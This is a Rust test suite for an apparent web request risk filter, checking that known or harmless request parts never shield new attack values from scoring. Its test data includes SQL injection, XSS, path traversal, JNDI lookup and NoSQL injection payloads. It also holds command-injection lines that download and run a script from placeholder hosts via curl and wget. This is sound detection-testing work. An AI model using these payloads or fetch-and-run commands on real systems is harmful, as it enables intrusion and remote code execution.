//! Does nothing known or harmless shield what is new? Exchanges as they come, and the points of each.

use proptest::prelude::*;
use user_risk_filter::clock::Timestamp;
use user_risk_filter::engine::stream::{Mark, Part, Stream};
use user_risk_filter::engine::{Engine, Input};
use user_risk_filter::exchange::head::Head;
use user_risk_filter::exchange::headers::Headers;
use user_risk_filter::exchange::proxy::Known;
use user_risk_filter::plugin::config::Config;
use user_risk_filter::secret::Variable;
use user_risk_filter::state::memory::Memory;
use user_risk_filter::worker::effect::Effect;

/// A minute and a second: beyond the time within which the same value counts once anywhere.
const LATER: u64 = 61_000;

/// A critical value of one rule (`sqli.union-select`), another one for each number.
fn union(number: usize) -> String {
    format!("{number}%27%20UNION%20SELECT%20c{number}%20FROM%20users--")
}

/// One request: its target, headers beyond the usual ones, its body.
#[derive(Clone, Debug, Default)]
struct Request {
    target: String,
    headers: Vec<(&'static str, String)>,
    body: String,
}

impl Request {
    fn get(target: impl Into<String>) -> Self {
        Self { target: target.into(), ..Self::default() }
    }

    fn post(kind: &'static str, body: impl Into<String>) -> Self {
        let headers = vec![("content-type", kind.to_owned())];
        Self { target: "/form".to_owned(), headers, body: body.into() }
    }

    fn with(mut self, header: &'static str, value: impl Into<String>) -> Self {
        self.headers.push((header, value.into()));
        self
    }
}

struct Filter {
    engine: Engine<Memory>,
    now: u64,
}

impl Filter {
    /// With a cap and a threshold that nothing here reaches, so that each part shows in the sum.
    fn new() -> Self {
        let options = r#"{"risk": {"threshold": 1000, "exchange_cap": 1000}}"#;
        let config = Config::load(options.as_bytes(), &|_| Variable::Unset).unwrap().config;
        Self { engine: Engine::new(config, Memory::default(), [1; 32]), now: 1_000_000 }
    }

    /// The points of the request, `after` milliseconds after the one before.
    fn points(&mut self, after: u64, request: &Request) -> u64 {
        self.now += after;
        let proxy = Known::default().with_address("192.0.2.7:1").answering(200, Headers::default());
        let method = if request.body.is_empty() { "GET" } else { "POST" };
        let own = [(":method", method), (":path", &request.target), (":authority", "shop.example"), ("x-user-id", "u")];
        let more = request.headers.iter().map(|(name, value)| (*name, value.as_str()));
        let mut stream = Stream::default();
        let mut effects = Vec::new();
        let mut on = |part| {
            effects.extend(self.engine.on(Input::Stream(&mut stream, part), Timestamp::from_millis(self.now)));
        };
        on(Part::Head(Head::new(own.into_iter().chain(more).collect())));
        for chunk in request.body.as_bytes().chunks(100) {
            on(Part::Chunk(chunk));
        }
        for mark in [Mark::Complete, Mark::Answered, Mark::End] {
            on(Part::Mark(mark, &proxy));
        }
        let line = |effect| match effect {
            Effect::Log(_, line) => serde_json::from_str::<serde_json::Value>(&line).ok(),
            _ => None,
        };
        let mut lines = effects.into_iter().filter_map(line);
        let line = lines.find(|line| line["event"] == "malicious_request");
        line.map_or(0, |line| line["points"].as_u64().unwrap())
    }
}

/// Plays the requests one after the other, and compares the points of each.
fn check(what: &str, rows: &[(u64, Request, u64)]) {
    let mut filter = Filter::new();
    let points: Vec<_> = rows.iter().map(|(after, request, _)| filter.points(*after, request)).collect();
    let expected: Vec<_> = rows.iter().map(|(_, _, points)| *points).collect();
    assert_eq!(points, expected, "{what}");
}

#[test]
fn a_known_value_shields_no_new_one_at_the_same_target() {
    let known = union(0);
    let again = |number| Request::get(format!("/search?q={known}&q={}", union(number)));
    check(
        "the known value first, in the same parameter",
        &[
            (0, Request::get(format!("/search?q={known}")), 8),
            (LATER, again(1), 8),
            (LATER, again(2), 8),
            (LATER, again(3), 8),
            (LATER, again(3), 0),
        ],
    );
}

#[test]
fn known_values_shield_no_new_one_at_another_target() {
    let [a, b, c] = [0, 1, 2].map(union);
    let known = format!("/search?a={a}&b={b}&c={c}");
    check(
        "three known values of the rule before it",
        &[
            (0, Request::get(known.clone()), 8),
            (LATER, Request::get(known.clone()), 0),
            (LATER, Request::get(format!("{known}&q={}", union(3))), 8),
        ],
    );
    let many: String = (0..40).map(|number| format!("&p{number}={}", union(number))).collect();
    check(
        "more than are kept one by one",
        &[
            (0, Request::get(format!("/search?x=1{many}")), 8),
            (LATER, Request::get(format!("/search?x=1{many}")), 0),
            (LATER, Request::get(format!("/search?x=1{many}&q={}", union(99))), 8),
        ],
    );
}

#[test]
fn a_known_value_in_an_address_shields_no_new_one_before_its_query() {
    let address = |path: &str, query: usize| Request::get(format!("/go?u=http://x.example/{path}?q={}", union(query)));
    check(
        "the same query behind new paths",
        &[
            (0, address("a", 0), 8),
            (LATER, address("b", 0), 0),
            (LATER, address(&union(1), 0), 8),
            (LATER, address(&union(2), 0), 8),
            (LATER, address(&union(2), 0), 0),
            (LATER, address(&union(2), 3), 8),
        ],
    );
}

#[test]
fn a_place_is_a_target_on_a_route_but_headers_and_cookies_have_none() {
    let value = union(0);
    let query = |route: &str| Request::get(format!("/{route}?q={value}"));
    check(
        "sprayed over routes",
        &[
            (0, query("a"), 8),
            (1000, query("b"), 0),
            (LATER, query("b"), 8),
            (LATER, query("c"), 8),
            (LATER, query("c"), 0),
        ],
    );
    let cookie = |route: &str| Request::get(format!("/{route}")).with("cookie", format!("odd={value}"));
    check(
        "a cookie comes with every request",
        &[(0, cookie("a"), 8), (LATER, cookie("b"), 0), (LATER, cookie("c"), 0)],
    );
}

#[test]
fn a_name_that_matches_has_its_value_in_its_identity() {
    let json = |value: &str| Request::post("application/json", format!(r#"{{"user": {{"$regex": "{value}"}}}}"#));
    let first = Filter::new().points(0, &json("^a"));
    assert!(first > 0);
    check("letter by letter in JSON", &[(0, json("^a"), first), (LATER, json("^b"), first), (LATER, json("^b"), 0)]);
    let query = |value: &str| Request::get(format!("/login?user[$regex]={value}"));
    let first = Filter::new().points(0, &query("^a"));
    assert!(first > 0);
    check(
        "letter by letter in a query",
        &[(0, query("^a"), first), (LATER, query("^b"), first), (LATER, query("^b"), 0)],
    );
    let setting = |value: &str| Request::get(format!("/login?class.module.classLoader.resources={value}"));
    let first = Filter::new().points(0, &setting("a"));
    assert!(first > 0);
    check(
        "a name as people write them",
        &[(0, setting("a"), first), (LATER, setting("b"), first), (LATER, setting("b"), 0)],
    );
}

#[test]
fn of_a_rule_the_mildest_detection_gives_way() {
    let pasted = |number: usize| format!("{}{}", "lorem+ipsum+".repeat(60), union(number));
    let form = |body: String| Request::post("application/x-www-form-urlencoded", body);
    let decoys = format!("a={}&b={}&c={}", pasted(0), pasted(1), pasted(2));
    let mild = Filter::new().points(0, &form(decoys.clone()));
    assert!((1..8).contains(&mild), "{mild}");
    check("three mild ones before it", &[(0, form(format!("{decoys}&d={}", union(3))), 8)]);
    check("at the same target", &[(0, form(format!("a={}&a={}", pasted(0), union(1))), 8)]);
}

/// Parts of requests: harmless, and of several rules.
const VALUES: &[&str] = &[
    "blue",
    "42",
    "union%20jack",
    "1%27%20UNION%20SELECT%20a%20FROM%20users--",
    "2%27%20UNION%20SELECT%20b%20FROM%20users--",
    "%27%20or%201=1--",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%3Cscript%3Ealert(2)%3C/script%3E",
    "%3Bcurl%20http://x.example/s%7Csh",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "$%7Bjndi:ldap://x.example/a%7D",
];

/// A part of a request: a parameter or a member of one of three names, or a header.
#[derive(Clone, Debug)]
enum Piece {
    Parameter(usize, usize),
    Member(usize, usize),
    Header(usize),
}

fn piece() -> impl Strategy<Value = Piece> {
    prop_oneof![
        3 => (0..3_usize, 0..VALUES.len()).prop_map(|(name, value)| Piece::Parameter(name, value)),
        2 => (0..3_usize, 0..VALUES.len()).prop_map(|(name, value)| Piece::Member(name, value)),
        1 => (0..VALUES.len()).prop_map(Piece::Header),
    ]
}

/// The request of these pieces, in their order.
fn request(pieces: &[Piece]) -> Request {
    let (mut query, mut members, mut headers) = (String::new(), Vec::new(), Vec::new());
    for (number, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Parameter(name, value) => query.push_str(&format!("&p{name}={}", VALUES[*value])),
            Piece::Member(name, value) => {
                let plain = percent_decode(VALUES[*value]);
                members.push(format!("\"m{name}x{number}\":{}", serde_json::Value::from(plain)));
            }
            Piece::Header(value) => headers.push(("x-note", percent_decode(VALUES[*value]))),
        }
    }
    let mut request = Request::get(format!("/search?z=1{query}"));
    if !members.is_empty() {
        request.body = format!("{{{}}}", members.join(","));
        headers.push(("content-type", "application/json".to_owned()));
    }
    request.headers = headers;
    request
}

fn percent_decode(text: &str) -> String {
    let mut plain = Vec::new();
    if user_risk_filter::decode::percent::decode(text.as_bytes(), &mut plain) {
        String::from_utf8(plain).unwrap()
    } else {
        text.to_owned()
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// With a history of requests before it, a request scores no less for having more parts: harmless ones, or ones that
    /// were in the history.
    #[test]
    fn a_harmless_or_known_part_never_lowers_what_the_rest_scores(
        history in prop::collection::vec(prop::collection::vec(piece(), 1..4), 0..4),
        rest in prop::collection::vec(piece(), 1..4),
        harmless in prop::collection::vec((0..3_usize, 0..3_usize, any::<bool>()), 0..4),
        in_front in any::<bool>(),
        after in prop_oneof![Just(1000_u64), Just(LATER)],
    ) {
        let play = |last: &Request| {
            let mut filter = Filter::new();
            for pieces in &history {
                filter.points(LATER, &request(pieces));
            }
            filter.points(after, last)
        };
        let known = history.iter().flatten().cloned();
        let plain = harmless.iter().map(|(name, value, json)| {
            if *json { Piece::Member(*name, *value) } else { Piece::Parameter(*name, *value) }
        });
        let added: Vec<_> = known.chain(plain).collect();
        let whole: Vec<_> = if in_front {
            added.into_iter().chain(rest.iter().cloned()).collect()
        } else {
            rest.iter().cloned().chain(added).collect()
        };
        let (alone, together) = (play(&request(&rest)), play(&request(&whole)));
        prop_assert!(together >= alone, "{alone} points alone, {together} with more: {:?}", request(&whole));
    }
}

/// What a text shows is no attack of its author's; but nobody gets that for a sign or two before a payload.
#[test]
fn neither_a_row_of_a_table_nor_a_fence_that_is_never_closed_shields_a_payload() {
    let comment = |text: &str| Request::post("application/json", serde_json::json!({ "comment": text }).to_string());
    let rows = ["|a|{}|", "| a | b |\n|---|---|\n| x | {} |", "```\n{}", "````\n```\n{}"];
    for (number, row) in rows.into_iter().enumerate() {
        let number = 2 * number;
        let select = format!("{number}' UNION SELECT c{number} FROM users--");
        let command = format!("; wget http://e.example/{number} -O /tmp/a; sh /tmp/a");
        let request = |payload: &str| comment(&row.replace("{}", payload));
        check(row, &[(0, request(&select), 8), (LATER, request(&command), 8)]);
    }
}
